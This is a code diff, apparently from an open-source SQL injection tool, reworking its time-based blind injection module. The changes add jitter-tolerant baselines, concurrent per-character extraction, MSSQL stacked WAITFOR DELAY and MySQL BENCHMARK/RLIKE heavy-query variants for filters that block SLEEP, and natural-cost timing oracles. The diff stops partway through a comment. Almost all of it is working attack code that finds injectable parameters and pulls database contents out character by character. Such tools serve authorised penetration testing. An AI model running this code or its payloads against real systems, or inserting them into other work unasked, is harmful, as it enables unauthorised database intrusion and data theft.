@@ -10,22 +10,36 @@
 // This is the technique of last resort when error-based and boolean-blind methods
 // are not applicable (no error messages, no page content difference).
 //
+// Durations are measured to the first byte of the response by default: a
+// sleep delays the whole answer, while a server that streams its page may
+// take long to finish the body for reasons of its own. WithTotalTime
+// switches to the total read time.
+//
 // Supported DBMS:
 //   - MySQL:      IF(condition, SLEEP(n), 0)
 //   - PostgreSQL: (SELECT CASE WHEN (condition) THEN (SELECT 1 FROM PG_SLEEP(n)) ELSE 1 END)
+//   - MSSQL:      ; IF (condition) WAITFOR DELAY '0:0:n' as a stacked query,
+//     or a heavy query where the statement cannot be terminated
 package timebased
 
 import (
 	"context"
 	"fmt"
 	"net/url"
+	"strings"
+	"sync"
 	"time"
 
 	"github.com/0x6d61/sqleech/internal/dbms"
 	"github.com/0x6d61/sqleech/internal/engine"
+	"github.com/0x6d61/sqleech/internal/graphql"
 	"github.com/0x6d61/sqleech/internal/payload"
+	"github.com/0x6d61/sqleech/internal/payloadlib"
+	"github.com/0x6d61/sqleech/internal/rawquery"
+	"github.com/0x6d61/sqleech/internal/reqparam"
 	"github.com/0x6d61/sqleech/internal/technique"
 	"github.com/0x6d61/sqleech/internal/transport"
+	"github.com/0x6d61/sqleech/internal/xmlbody"
 )
 
 const (
@@ -37,8 +51,12 @@ const (
 	// e.g., sleep=5s, tolerance=0.7 → threshold = baseline + 3.5s
 	defaultTolerance = 0.7
 
-	// baselineSamples is the number of requests to average for baseline timing.
-	baselineSamples = 2
+	// defaultBaselineSamples is the number of requests timed for the baseline.
+	defaultBaselineSamples = 5
+
+	// defaultJitterK is the number of baseline standard deviations the
+	// threshold keeps above the baseline median on a jittery target.
+	defaultJitterK = 3.0
 
 	// asciiLow / asciiHigh define the printable ASCII range for extraction.
 	asciiLow  = 32
@@ -46,46 +64,269 @@ const (
 
 	// maxExtractLength caps the extraction to prevent infinite loops.
 	maxExtractLength = 512
+
+	// maxConcurrentProbes is both the default and the cap of the number of
+	// character positions Extract reads at once. Each probe in flight may
+	// hold a sleeping query on the target; past a few, they queue behind
+	// each other for database connections or workers and delay FALSE
+	// answers into the threshold.
+	maxConcurrentProbes = 3
 )
 
-// boundaryPair represents a prefix/suffix combination to escape the SQL context.
+// boundaryPair represents a prefix/suffix combination to escape the SQL
+// context, or a corpus expression that replaces the value outright.
 type boundaryPair struct {
+	id     string // Payload corpus entry ID
 	prefix string
 	suffix string
+	expr   *payloadlib.Entry // Set for expressions; prefix and suffix are empty
+
+	// stacked ends the statement after prefix and runs coreExpr as a
+	// statement of its own.
+	stacked bool
+
+	// delay is how the payload delays the response, and cost the size of
+	// a heavy-query delay (see calibrate).
+	delay delayKind
+	cost  int
+}
+
+// inject returns the value sent to evaluate coreExpr.
+func (bp boundaryPair) inject(value, coreExpr string) string {
+	if bp.expr != nil {
+		return bp.expr.Render(value, coreExpr)
+	}
+	return value + bp.prefix + bp.joiner() + coreExpr + " " + bp.suffix
+}
+
+// payload returns the reported payload for coreExpr.
+func (bp boundaryPair) payload(value, coreExpr string) *payload.Builder {
+	if bp.expr != nil {
+		return payload.NewBuilder().WithCore(bp.expr.Render(value, coreExpr))
+	}
+	return payload.NewBuilder().
+		WithPrefix(bp.prefix).
+		WithCore(bp.joiner() + coreExpr).
+		WithSuffix(bp.suffix)
+}
+
+// joiner returns what goes between the prefix and the core expression.
+func (bp boundaryPair) joiner() string {
+	if bp.stacked {
+		return "; "
+	}
+	return " AND "
+}
+
+// terminates reports whether bp can end the statement it injects into: it
+// appends to the value and comments out the rest of the query, so that a
+// statement stacked after a semicolon is complete.
+func (bp boundaryPair) terminates() bool {
+	return bp.expr == nil && strings.HasPrefix(bp.suffix, "--")
+}
+
+// variantsFor returns the ways of sleeping through bp against d, most
+// reliable first. For MSSQL, whose WAITFOR DELAY is a statement rather
+// than an expression, a boundary that terminates the statement is tried
+// with a stacked WAITFOR before the heavy query. When hint, the DBMS the
+// heuristics or fingerprinting reported, is in the MySQL family and risk
+// is HeavyRisk or more, SLEEP is followed by BENCHMARK and RLIKE heavy
+// queries for filters that block it; without a hint MySQL syntax is only a
+// guess, and SLEEP alone is tried.
+func variantsFor(d dbms.DBMS, hint string, risk int, bp boundaryPair) []boundaryPair {
+	switch {
+	case d.Name() == "MSSQL" && bp.terminates():
+		stacked := bp
+		stacked.stacked = true
+		return []boundaryPair{stacked, bp}
+	case hint != "" && dbms.Family(hint) == "MySQL" && risk >= HeavyRisk:
+		bench, regex := bp, bp
+		bench.delay, regex.delay = delayBenchmark, delayRegex
+		return []boundaryPair{bp, bench, regex}
+	default:
+		return []boundaryPair{bp}
+	}
+}
+
+// method names how bp sleeps against d, for evidence strings; it is empty
+// for a plain sleep function.
+func (bp boundaryPair) method(d dbms.DBMS) string {
+	switch {
+	case bp.delay == delayBenchmark:
+		return fmt.Sprintf("BENCHMARK heavy query (%d iterations)", bp.cost)
+	case bp.delay == delayRegex:
+		return fmt.Sprintf("RLIKE heavy query (%d-character subject)", bp.cost)
+	case d.Name() != "MSSQL":
+		return ""
+	case bp.stacked:
+		return "stacked WAITFOR DELAY"
+	default:
+		return "heavy query"
+	}
+}
+
+// corpusBoundaries returns the payload corpus boundaries tried against req
+// during detection, those of its level, in corpus order, most likely
+// first.
+func corpusBoundaries(req *technique.InjectionRequest) []boundaryPair {
+	var pairs []boundaryPair
+	for _, e := range payloadlib.Default().Select(technique.BoundaryFilter(payloadlib.TechniqueTime, req)) {
+		pairs = append(pairs, boundaryPair{id: e.ID, prefix: e.Prefix, suffix: e.Suffix})
+	}
+	return pairs
 }
 
-// defaultBoundaries lists prefix/suffix pairs tried during detection.
-var defaultBoundaries = []boundaryPair{
-	{"", "-- -"},
-	{"'", "-- -"},
-	{"\"", "-- -"},
-	{")", "-- -"},
-	{"')", "-- -"},
+// boundariesFor returns the boundaries to try against req: under a LIMIT
+// context hint, the corpus LIMIT expressions and then the ordinary ones,
+// after any whose prefix is recorded in req.State.
+func boundariesFor(name string, req *technique.InjectionRequest) []boundaryPair {
+	if req.Context != payloadlib.ContextLimit {
+		return preferRecorded(corpusBoundaries(req), req.State)
+	}
+	f := payloadlib.ScanFilter(payloadlib.KindExpression, name, req.DBMS, technique.Level(req), technique.Risk(req))
+	f.Context = req.Context
+	var pairs []boundaryPair
+	for _, e := range payloadlib.Default().Select(f) {
+		pairs = append(pairs, boundaryPair{id: e.ID, expr: &e})
+	}
+	return preferRecorded(append(pairs, corpusBoundaries(req)...), req.State)
+}
+
+// preferRecorded moves the boundaries with the prefix another technique
+// recorded for the parameter to the front, keeping corpus order otherwise.
+func preferRecorded(pairs []boundaryPair, state *engine.ParamState) []boundaryPair {
+	prefix, ok := state.Boundary()
+	if !ok {
+		return pairs
+	}
+	recorded := func(bp boundaryPair) bool { return bp.expr == nil && bp.prefix == prefix }
+	out := make([]boundaryPair, 0, len(pairs))
+	for _, bp := range pairs {
+		if recorded(bp) {
+			out = append(out, bp)
+		}
+	}
+	for _, bp := range pairs {
+		if !recorded(bp) {
+			out = append(out, bp)
+		}
+	}
+	return out
 }
 
 // TimeBased implements the time-based blind SQL injection technique.
 type TimeBased struct {
-	sleepSeconds int
-	tolerance    float64
+	sleepSeconds    int
+	tolerance       float64
+	baselineSamples int
+	jitterK         float64
+	totalTime       bool // Measure to the last byte instead of the first
+
+	// concurrentProbes is the number of character positions Extract reads
+	// at once (see WithMaxConcurrentProbes).
+	concurrentProbes int
+
+	// cost, when set, replaces the sleep with the target's own query cost
+	// (see NewNaturalCost).
+	cost *naturalCost
+
+	// probeTimeout is the timeout of timed probes, set by withBaseline;
+	// zero leaves the request's.
+	probeTimeout time.Duration
+}
+
+// naturalCost is a timing oracle found without injecting a sleep: the
+// boundary it works with and the duration separating TRUE from FALSE.
+type naturalCost struct {
+	prefix, suffix string
+	threshold      time.Duration
 }
 
 // New creates a TimeBased technique with production-safe defaults.
 func New() *TimeBased {
-	return &TimeBased{
-		sleepSeconds: defaultSleepSeconds,
-		tolerance:    defaultTolerance,
-	}
+	return NewWithConfig(defaultSleepSeconds, defaultTolerance, 0, 0)
 }
 
 // NewWithConfig creates a TimeBased technique with custom parameters.
-// Intended for testing with shorter sleep intervals.
-func NewWithConfig(sleepSeconds int, tolerance float64) *TimeBased {
+// baselineSamples requests are timed for the baseline, and the delay
+// threshold is the baseline median plus the larger of sleepSeconds *
+// tolerance and jitterK baseline standard deviations. Zero baselineSamples
+// or jitterK selects the default (5 samples, k=3). Intended for testing
+// with shorter sleep intervals.
+func NewWithConfig(sleepSeconds int, tolerance float64, baselineSamples int, jitterK float64) *TimeBased {
+	if baselineSamples <= 0 {
+		baselineSamples = defaultBaselineSamples
+	}
+	if jitterK <= 0 {
+		jitterK = defaultJitterK
+	}
 	return &TimeBased{
-		sleepSeconds: sleepSeconds,
-		tolerance:    tolerance,
+		sleepSeconds:     sleepSeconds,
+		tolerance:        tolerance,
+		baselineSamples:  baselineSamples,
+		jitterK:          jitterK,
+		concurrentProbes: maxConcurrentProbes,
 	}
 }
 
+// NewNaturalCost creates a TimeBased that extracts through the target's
+// natural query cost instead of a sleep: the bare condition is injected
+// with prefix and suffix, and a response taking threshold or longer means
+// TRUE. It is for endpoints where a TRUE condition runs an expensive query
+// and a FALSE one short-circuits, as found by boolean-blind's timing
+// fallback. Only Extract uses the oracle; Detect still injects sleeps.
+func NewNaturalCost(prefix, suffix string, threshold time.Duration) *TimeBased {
+	t := New().WithTotalTime(true)
+	t.cost = &naturalCost{prefix: prefix, suffix: suffix, threshold: threshold}
+	return t
+}
+
+// WithTotalTime makes t compare total response times, from sending the
+// request to reading the last byte, instead of times to the first byte.
+// It is for targets that send headers before running the query. It
+// returns t.
+func (t *TimeBased) WithTotalTime(total bool) *TimeBased {
+	t.totalTime = total
+	return t
+}
+
+// WithMaxConcurrentProbes makes Extract read up to n character positions at
+// once, each position's binary search in its own goroutine; the value is
+// assembled in order either way. n is capped at 3 to keep concurrent sleeps
+// from skewing the timing oracle; 1 extracts sequentially and n <= 0 keeps
+// the default of 3. Probes share the client, and so its rate limit. It
+// returns t.
+func (t *TimeBased) WithMaxConcurrentProbes(n int) *TimeBased {
+	if n > 0 {
+		t.concurrentProbes = min(n, maxConcurrentProbes)
+	}
+	return t
+}
+
+// forRequest returns t, or a copy of it sleeping req.SleepSeconds when the
+// request sets a sleep.
+func (t *TimeBased) forRequest(req *technique.InjectionRequest) *TimeBased {
+	if req.SleepSeconds <= 0 || req.SleepSeconds == t.sleepSeconds {
+		return t
+	}
+	c := *t
+	c.sleepSeconds = req.SleepSeconds
+	return &c
+}
+
+// withBaseline returns a copy of t whose timed probes time out after the
+// request's Timeout or, without one, after the sleep plus the baseline
+// median plus margin: long enough for a sleep to show, and no longer.
+// A natural-cost t keeps the request's timeout.
+func (t *TimeBased) withBaseline(req *technique.InjectionRequest, baseline Sample) *TimeBased {
+	c := *t
+	c.probeTimeout = req.Timeout
+	if c.probeTimeout <= 0 && t.cost == nil {
+		c.probeTimeout = time.Duration(t.sleepSeconds)*time.Second + baseline.Median + t.margin(baseline)
+	}
+	return &c
+}
+
 // Name returns "time-based".
 func (t *TimeBased) Name() string { return "time-based" }
 
@@ -95,70 +336,96 @@ func (t *TimeBased) Priority() int { return 3 }
 // Detect tests whether a parameter is injectable using response timing.
 //
 // Algorithm:
-//  1. Measure average baseline response time (2 samples).
-//  2. Compute delay threshold = baseline + sleepSeconds * tolerance.
+//  1. Time baselineSamples unmodified requests and take their median and
+//     standard deviation. Times are to the first byte unless WithTotalTime
+//     is set.
+//  2. Compute delay threshold = median + max(sleepSeconds * tolerance,
+//     jitterK * stddev), so jitter alone does not reach it.
 //  3. For each boundary pair, send:
 //     a. Sleep probe  (IF TRUE → sleep)  → expect duration >= threshold.
 //     b. No-sleep probe (IF FALSE → no sleep) → expect duration < threshold.
-//  4. Confirm with one more sleep probe to reduce false positives from network lag.
+//  4. Confirm with one more sleep probe to reduce false positives from network lag,
+//     and with technique.ExtraConfirmations more at higher levels.
+//     Unmodified control requests go between the probes, and each probe
+//     is held against its nearest control plus the step 2 margin rather
+//     than against the baseline median, so that a target whose latency
+//     shifts mid-detection is compared with its current self (see
+//     probeRounds). If the confirmation alone still falls short, the
+//     baseline is measured again, once per call, and the boundary retried.
 func (t *TimeBased) Detect(ctx context.Context, req *technique.InjectionRequest) (*technique.DetectionResult, error) {
+	t = t.forRequest(req)
 	result := &technique.DetectionResult{Technique: t.Name()}
 
-	d := findDBMS(req.DBMS)
+	d := technique.FindDBMS(req)
 
-	baseline, err := measureBaseline(ctx, req)
+	baseline, err := t.measureBaseline(ctx, req)
 	if err != nil {
 		// If we can't establish baseline, skip gracefully.
 		return result, nil
 	}
-
-	threshold := baseline + time.Duration(float64(t.sleepSeconds)*t.tolerance*float64(time.Second))
-
-	for _, bp := range defaultBoundaries {
-		// Build the TRUE (sleep) probe and FALSE (no-sleep) probe.
-		sleepCore := sleepPayloadFor(d, "1=1", t.sleepSeconds)
-		noSleepCore := sleepPayloadFor(d, "1=2", t.sleepSeconds)
-
-		// Probe 1: expect delay.
-		dur1, err := t.sendTimedProbe(ctx, req, sleepCore, bp.prefix, bp.suffix)
-		if err != nil {
-			continue
-		}
-		if dur1 < threshold {
-			continue // No delay detected, try next boundary.
-		}
-
-		// Probe 2: expect NO delay (confirmation that we control the sleep).
-		dur2, err := t.sendTimedProbe(ctx, req, noSleepCore, bp.prefix, bp.suffix)
-		if err != nil {
-			continue
-		}
-		if dur2 >= threshold {
-			// Still delayed on false condition — likely server-side lag, not injection.
-			continue
-		}
-
-		// Probe 3: final confirmation round.
-		dur3, err := t.sendTimedProbe(ctx, req, sleepCore, bp.prefix, bp.suffix)
-		if err != nil || dur3 < threshold {
-			continue
+	threshold := t.threshold(baseline)
+	t = t.withBaseline(req, baseline)
+	if req.Timeout > 0 && req.Timeout < threshold && req.Progress != nil {
+		req.Progress(fmt.Sprintf("time-based timeout %s is below the %.2fs delay threshold: probes that time out count as not delayed",
+			req.Timeout, threshold.Seconds()))
+	}
+	latest := baseline.Median // The most recent control duration
+	remeasured := false
+
+	for _, boundary := range boundariesFor(t.Name(), req) {
+		req.Coverage.Tried(boundary.id)
+		for _, bp := range variantsFor(d, req.DBMS, technique.Risk(req), boundary) {
+			if bp.delay != delaySleep {
+				var ok bool
+				if bp, ok = t.calibrate(ctx, req, d, bp, baseline, threshold); !ok {
+					continue
+				}
+			}
+
+			// Build the TRUE (sleep) probe and FALSE (no-sleep) probe.
+			sleepCore := sleepCoreFor(d, bp, "1=1", t.sleepSeconds)
+			noSleepCore := sleepCoreFor(d, bp, "1=2", t.sleepSeconds)
+
+			r := t.probeRounds(ctx, req, bp, sleepCore, noSleepCore, latest, t.margin(baseline))
+			if r.verdict == roundsDisagree && !remeasured {
+				remeasured = true
+				if baseline, err = t.measureBaseline(ctx, req); err != nil {
+					return result, nil
+				}
+				threshold = t.threshold(baseline)
+				t = t.withBaseline(req, baseline)
+				r = t.probeRounds(ctx, req, bp, sleepCore, noSleepCore, baseline.Median, t.margin(baseline))
+			}
+			if n := len(r.controls); n > 0 {
+				latest = r.controls[n-1]
+			}
+			if r.verdict != roundsConfirmed {
+				continue
+			}
+
+			// All rounds consistent — injectable.
+			req.Coverage.Succeeded(bp.id)
+			if bp.expr == nil {
+				req.State.RecordBoundary(bp.prefix)
+			}
+			result.Injectable = true
+			result.Confidence = 0.85
+			result.Evidence = fmt.Sprintf(
+				"sleep probe delayed: first byte %.2fs, total %.2fs (threshold %.2fs on %s, sleep=%ds, baseline=%.2fs median, %.2fs stddev over %d samples, controls %s)",
+				r.delayed.FirstByte().Seconds(), r.delayed.Duration.Seconds(),
+				r.threshold.Seconds(), t.measure(), t.sleepSeconds,
+				baseline.Median.Seconds(), baseline.StdDev.Seconds(), baseline.N,
+				formatSeconds(r.controls),
+			)
+			if m := bp.method(d); m != "" {
+				result.Evidence += " via " + m
+			}
+			result.Payload = bp.payload(req.Parameter.Value, sleepCore).
+				WithTechnique(t.Name()).
+				WithDBMS(d.Name()).
+				Build()
+			return result, nil
 		}
-
-		// All rounds consistent — injectable.
-		result.Injectable = true
-		result.Confidence = 0.85
-		result.Evidence = fmt.Sprintf(
-			"sleep probe delayed %.2fs (threshold %.2fs, sleep=%ds, baseline=%.2fs)",
-			dur1.Seconds(), threshold.Seconds(), t.sleepSeconds, baseline.Seconds(),
-		)
-		result.Payload = payload.NewBuilder().
-			WithPrefix(bp.prefix).
-			WithCore(" AND " + sleepCore).
-			WithSuffix(bp.suffix).
-			WithTechnique(t.Name()).
-			WithDBMS(d.Name()).
-			Build()
-		return result, nil
 	}
 
 	return result, nil
@@ -172,24 +439,36 @@ func (t *TimeBased) Detect(ctx context.Context, req *technique.InjectionRequest)
 //
 // If the response is delayed, the ASCII value > mid (search upper half).
 // If the response is fast, ASCII value <= mid (search lower half).
+// A natural-cost TimeBased injects the bare condition with its own
+// boundary and threshold instead. Character positions are independent and
+// are read a few at a time (see WithMaxConcurrentProbes).
 func (t *TimeBased) Extract(ctx context.Context, req *technique.ExtractionRequest) (*technique.ExtractionResult, error) {
-	d := findDBMS(req.DBMS)
-
-	baseline, err := measureBaseline(ctx, &req.InjectionRequest)
-	if err != nil {
-		return nil, fmt.Errorf("measuring baseline: %w", err)
-	}
-	threshold := baseline + time.Duration(float64(t.sleepSeconds)*t.tolerance*float64(time.Second))
+	t = t.forRequest(&req.InjectionRequest)
+	d := technique.FindDBMS(&req.InjectionRequest)
+
+	var bp boundaryPair
+	var threshold time.Duration
+	if t.cost != nil {
+		bp = boundaryPair{prefix: t.cost.prefix, suffix: t.cost.suffix}
+		threshold = t.cost.threshold
+	} else {
+		baseline, err := t.measureBaseline(ctx, &req.InjectionRequest)
+		if err != nil {
+			return nil, fmt.Errorf("measuring baseline: %w", err)
+		}
+		threshold = t.threshold(baseline)
+		t = t.withBaseline(&req.InjectionRequest, baseline)
 
-	prefix, suffix, err := t.findWorkingBoundary(ctx, &req.InjectionRequest, d, threshold)
-	if err != nil {
-		return nil, fmt.Errorf("finding working boundary: %w", err)
+		bp, err = t.findWorkingBoundary(ctx, &req.InjectionRequest, d, baseline, threshold)
+		if err != nil {
+			return nil, fmt.Errorf("finding working boundary: %w", err)
+		}
 	}
 
 	totalRequests := 0
 
 	// Step 1: Determine result length.
-	length, reqs, err := t.extractLength(ctx, req, d, prefix, suffix, threshold)
+	length, reqs, err := t.extractLength(ctx, req, d, bp, threshold)
 	if err != nil {
 		return nil, fmt.Errorf("extracting length: %w", err)
 	}
@@ -200,18 +479,23 @@ func (t *TimeBased) Extract(ctx context.Context, req *technique.ExtractionReques
 	}
 
 	// Step 2: Extract each character.
+	chars, err := t.extractChars(ctx, req, d, length, bp, threshold)
 	var result []byte
-	for pos := 1; pos <= length; pos++ {
-		ch, reqs, err := t.extractChar(ctx, req, d, pos, prefix, suffix, threshold)
-		if err != nil {
-			return &technique.ExtractionResult{
-				Value:    string(result),
-				Partial:  true,
-				Requests: totalRequests,
-			}, fmt.Errorf("extracting char at pos %d: %w", pos, err)
+	for _, c := range chars {
+		totalRequests += c.requests
+	}
+	for _, c := range chars {
+		if c.err != nil {
+			break
 		}
-		totalRequests += reqs
-		result = append(result, ch)
+		result = append(result, c.ch)
+	}
+	if err != nil {
+		return &technique.ExtractionResult{
+			Value:    string(result),
+			Partial:  true,
+			Requests: totalRequests,
+		}, err
 	}
 
 	return &technique.ExtractionResult{
@@ -221,78 +505,336 @@ func (t *TimeBased) Extract(ctx context.Context, req *technique.ExtractionReques
 	}, nil
 }
 
+// charResult is the outcome of extracting one character position.
+type charResult struct {
+	ch       byte
+	requests int
+	err      error
+}
+
+// extractChars extracts positions 1..length, up to t.concurrentProbes at a
+// time, and returns their results in position order. Once a position
+// fails, the others are abandoned and the first failure is returned.
+func (t *TimeBased) extractChars(
+	ctx context.Context,
+	req *technique.ExtractionRequest,
+	d dbms.DBMS,
+	length int,
+	bp boundaryPair,
+	threshold time.Duration,
+) ([]charResult, error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	results := make([]charResult, length)
+	positions := make(chan int)
+	var (
+		wg       sync.WaitGroup
+		failOnce sync.Once
+		failErr  error
+	)
+	for range max(1, min(t.concurrentProbes, length)) {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for pos := range positions {
+				r := &results[pos-1]
+				if r.err = ctx.Err(); r.err == nil {
+					r.ch, r.requests, r.err = t.extractChar(ctx, req, d, pos, bp, threshold)
+				}
+				if r.err != nil {
+					failOnce.Do(func() {
+						failErr = fmt.Errorf("extracting char at pos %d: %w", pos, r.err)
+						cancel()
+					})
+				}
+			}
+		}()
+	}
+	for pos := 1; pos <= length; pos++ {
+		positions <- pos
+	}
+	close(positions)
+	wg.Wait()
+	return results, failErr
+}
+
+// Control re-runs the sleep and no-sleep probes of the boundary behind
+// req.Finding against a freshly measured baseline: the sleep probe must
+// reach the threshold and the no-sleep probe stay under it. The negative
+// control opens both expressions with a parenthesis nothing closes, which
+// no statement accepts, so a genuine injection sleeps on neither.
+func (t *TimeBased) Control(ctx context.Context, req *technique.ControlRequest) (bool, error) {
+	t = t.forRequest(&req.InjectionRequest)
+	d := technique.FindDBMS(&req.InjectionRequest)
+	bp, ok := findingBoundary(t.Name(), req, d, t.sleepSeconds)
+	if !ok {
+		return false, technique.ErrUnknownFinding
+	}
+	sleepCore := sleepCoreFor(d, bp, "1=1", t.sleepSeconds)
+	noSleepCore := sleepCoreFor(d, bp, "1=2", t.sleepSeconds)
+	if req.Kind == engine.ControlNegative {
+		sleepCore, noSleepCore = "("+sleepCore, "("+noSleepCore
+	}
+
+	ir := &req.InjectionRequest
+	baseline, err := t.measureBaseline(ctx, ir)
+	if err != nil {
+		return false, err
+	}
+	threshold := t.threshold(baseline)
+	t = t.withBaseline(ir, baseline)
+
+	resp, err := t.sendTimedProbe(ctx, ir, sleepCore, bp)
+	if err != nil {
+		return false, err
+	}
+	if t.elapsed(resp) < threshold {
+		return false, nil
+	}
+	resp, err = t.sendTimedProbe(ctx, ir, noSleepCore, bp)
+	if err != nil {
+		return false, err
+	}
+	return t.elapsed(resp) < threshold, nil
+}
+
+// findingBoundary returns the boundary, and the variant of it, whose sleep
+// payload is the payload of req.Finding.
+func findingBoundary(name string, req *technique.ControlRequest, d dbms.DBMS, seconds int) (boundaryPair, bool) {
+	f := req.Finding
+	for _, boundary := range boundariesFor(name, &req.InjectionRequest) {
+		for _, bp := range variantsFor(d, req.DBMS, technique.Risk(&req.InjectionRequest), boundary) {
+			if bp.delay != delaySleep {
+				var ok bool
+				if bp.cost, ok = costIn(f.Payload, bp.delay); !ok {
+					continue
+				}
+			}
+			sleepCore := sleepCoreFor(d, bp, "1=1", seconds)
+			if bp.payload(f.Parameter.Value, sleepCore).Build().String() == f.Payload {
+				return bp, true
+			}
+		}
+	}
+	return boundaryPair{}, false
+}
+
 // --------------------------------------------------------------------------
 // Internal helpers
 // --------------------------------------------------------------------------
 
-// measureBaseline sends baselineSamples requests and returns the average
-// response time. This establishes the "no-sleep" reference point.
-func measureBaseline(ctx context.Context, req *technique.InjectionRequest) (time.Duration, error) {
-	var total time.Duration
-	for range baselineSamples {
-		probeReq := buildProbeRequest(req.Target, req.Parameter, req.Parameter.Value)
-		resp, err := req.Client.Do(ctx, probeReq)
+// measureBaseline sends t.baselineSamples requests and summarizes their
+// response times. This establishes the "no-sleep" reference point.
+func (t *TimeBased) measureBaseline(ctx context.Context, req *technique.InjectionRequest) (Sample, error) {
+	ds := make([]time.Duration, 0, t.baselineSamples)
+	for range t.baselineSamples {
+		d, err := t.sendControl(ctx, req)
 		if err != nil {
-			return 0, err
+			return Sample{}, err
 		}
-		total += resp.Duration
+		ds = append(ds, d)
 	}
-	return total / baselineSamples, nil
+	return Summarize(ds), nil
 }
 
-// sendTimedProbe sends a probe and returns the actual response duration.
-func (t *TimeBased) sendTimedProbe(ctx context.Context, req *technique.InjectionRequest, coreExpr, prefix, suffix string) (time.Duration, error) {
-	payloadStr := req.Parameter.Value + prefix + " AND " + coreExpr + " " + suffix
-	probeReq := buildProbeRequest(req.Target, req.Parameter, payloadStr)
-
-	resp, err := req.Client.Do(ctx, probeReq)
+// sendControl sends the request with the parameter unchanged and returns
+// its duration.
+func (t *TimeBased) sendControl(ctx context.Context, req *technique.InjectionRequest) (time.Duration, error) {
+	resp, err := technique.Send(ctx, req, buildProbeRequest(req.Target, req.Parameter, req.Parameter.Value))
 	if err != nil {
 		return 0, err
 	}
-	return resp.Duration, nil
+	return t.elapsed(resp), nil
 }
 
-// sleepPayloadFor builds a DBMS-appropriate conditional sleep expression.
-//
-// The returned expression evaluates the given condition:
-//   - If TRUE:  sleep function is called (response delayed)
-//   - If FALSE: no sleep (immediate response)
+// threshold returns the duration a sleep probe must reach: the baseline
+// median plus margin.
+func (t *TimeBased) threshold(baseline Sample) time.Duration {
+	return baseline.Median + t.margin(baseline)
+}
+
+// margin returns how much longer than an unmodified request a sleep probe
+// must take: sleepSeconds * tolerance, or jitterK baseline standard
+// deviations when the baseline varies more than that.
+func (t *TimeBased) margin(baseline Sample) time.Duration {
+	margin := time.Duration(float64(t.sleepSeconds) * t.tolerance * float64(time.Second))
+	jitter := time.Duration(t.jitterK * float64(baseline.StdDev))
+	return max(margin, jitter)
+}
+
+// roundsVerdict is the outcome of Detect's probe rounds for one boundary.
+type roundsVerdict int
+
+const (
+	roundsNoDelay   roundsVerdict = iota // The sleep probe was not delayed, or a probe failed
+	roundsLag                            // The no-sleep probe was delayed too
+	roundsDisagree                       // The confirmation sleep probe was not delayed
+	roundsConfirmed                      // Every round matched
+)
+
+// roundsResult is what probeRounds saw of one boundary.
+type roundsResult struct {
+	verdict   roundsVerdict
+	delayed   *transport.Response // The first sleep probe, when confirmed
+	threshold time.Duration       // The first sleep probe's threshold
+	controls  []time.Duration     // The control durations, in order
+}
+
+// probeRounds sends the sleep probe, the no-sleep probe and the
+// confirmation sleep probe for bp, stopping at the first that does not
+// match. A control request follows each of the first two probes, and a
+// probe must be delayed by margin over its nearest control: the one after
+// it for the first sleep probe, the one before it for the confirmation,
+// and the slower of the two around it for the no-sleep probe, so that
+// latency rising mid-round is not taken for a sleep. The first sleep probe
+// is screened against latest, the most recent control, before any control
+// is spent on it.
+func (t *TimeBased) probeRounds(
+	ctx context.Context,
+	req *technique.InjectionRequest,
+	bp boundaryPair,
+	sleepCore, noSleepCore string,
+	latest, margin time.Duration,
+) roundsResult {
+	var r roundsResult
+	control := func() (time.Duration, bool) {
+		d, err := t.sendControl(ctx, req)
+		if err != nil {
+			return 0, false
+		}
+		r.controls = append(r.controls, d)
+		return d, true
+	}
+
+	// Probe 1: expect delay.
+	resp1, err := t.sendTimedProbe(ctx, req, sleepCore, bp)
+	if err != nil || t.elapsed(resp1) < latest+margin {
+		return r
+	}
+	c1, ok := control()
+	if !ok || t.elapsed(resp1) < c1+margin {
+		return r
+	}
+
+	// Probe 2: expect NO delay (confirmation that we control the sleep).
+	resp2, err := t.sendTimedProbe(ctx, req, noSleepCore, bp)
+	if err != nil {
+		return r
+	}
+	c2, ok := control()
+	if !ok {
+		return r
+	}
+	if t.elapsed(resp2) >= max(c1, c2)+margin {
+		// Still delayed on false condition — likely server-side lag, not injection.
+		r.verdict = roundsLag
+		return r
+	}
+
+	// Probe 3: final confirmation round, repeated at higher levels with a
+	// control before each repeat.
+	nearest := c2
+	for i := range 1 + technique.ExtraConfirmations(req) {
+		if i > 0 {
+			if nearest, ok = control(); !ok {
+				return r
+			}
+		}
+		resp3, err := t.sendTimedProbe(ctx, req, sleepCore, bp)
+		if err != nil {
+			return r
+		}
+		if t.elapsed(resp3) < nearest+margin {
+			r.verdict = roundsDisagree
+			return r
+		}
+	}
+	r.verdict, r.delayed, r.threshold = roundsConfirmed, resp1, c1+margin
+	return r
+}
+
+// formatSeconds formats ds as a comma-separated list of seconds.
+func formatSeconds(ds []time.Duration) string {
+	parts := make([]string, len(ds))
+	for i, d := range ds {
+		parts[i] = fmt.Sprintf("%.2fs", d.Seconds())
+	}
+	return strings.Join(parts, ", ")
+}
+
+// sendTimedProbe sends a probe and returns the response; t.elapsed gives
+// the duration to compare. A probe that runs out its timeout stands for a
+// response taking exactly that long, so it counts as delayed only when the
+// timeout reaches the threshold it is held against; the timeout
+// withBaseline sets always does.
+func (t *TimeBased) sendTimedProbe(ctx context.Context, req *technique.InjectionRequest, coreExpr string, bp boundaryPair) (*transport.Response, error) {
+	payloadStr := bp.inject(req.Parameter.Value, coreExpr)
+	probeReq := buildProbeRequest(req.Target, req.Parameter, payloadStr)
+	probeReq.Timeout = t.probeTimeout
+	resp, err := technique.Send(ctx, req, probeReq)
+	if err != nil && probeReq.Timeout > 0 && ctx.Err() == nil && transport.ClassifyFailure(err) == transport.FailureTimeout {
+		return &transport.Response{Duration: probeReq.Timeout}, nil
+	}
+	return resp, err
+}
+
+// elapsed returns the duration of resp that t compares against its
+// threshold: the time to the first byte, or the total with WithTotalTime.
+func (t *TimeBased) elapsed(resp *transport.Response) time.Duration {
+	if t.totalTime {
+		return resp.Duration
+	}
+	return resp.FirstByte()
+}
+
+// measure names what elapsed measures, for evidence strings.
+func (t *TimeBased) measure() string {
+	if t.totalTime {
+		return "total time"
+	}
+	return "first byte"
+}
+
+// stackedSleepFor builds an MSSQL statement that waits when condition
+// holds, for running after the injected statement:
 //
-// MySQL:      IF(condition, SLEEP(n), 0)
-// PostgreSQL: 1=(CASE WHEN (condition) THEN (SELECT 1 FROM PG_SLEEP(n)) ELSE 1 END)
-// MSSQL:      CASE WHEN (condition) THEN 1 ELSE 1 END  (WAITFOR via stacked query)
-// Default:    MySQL syntax
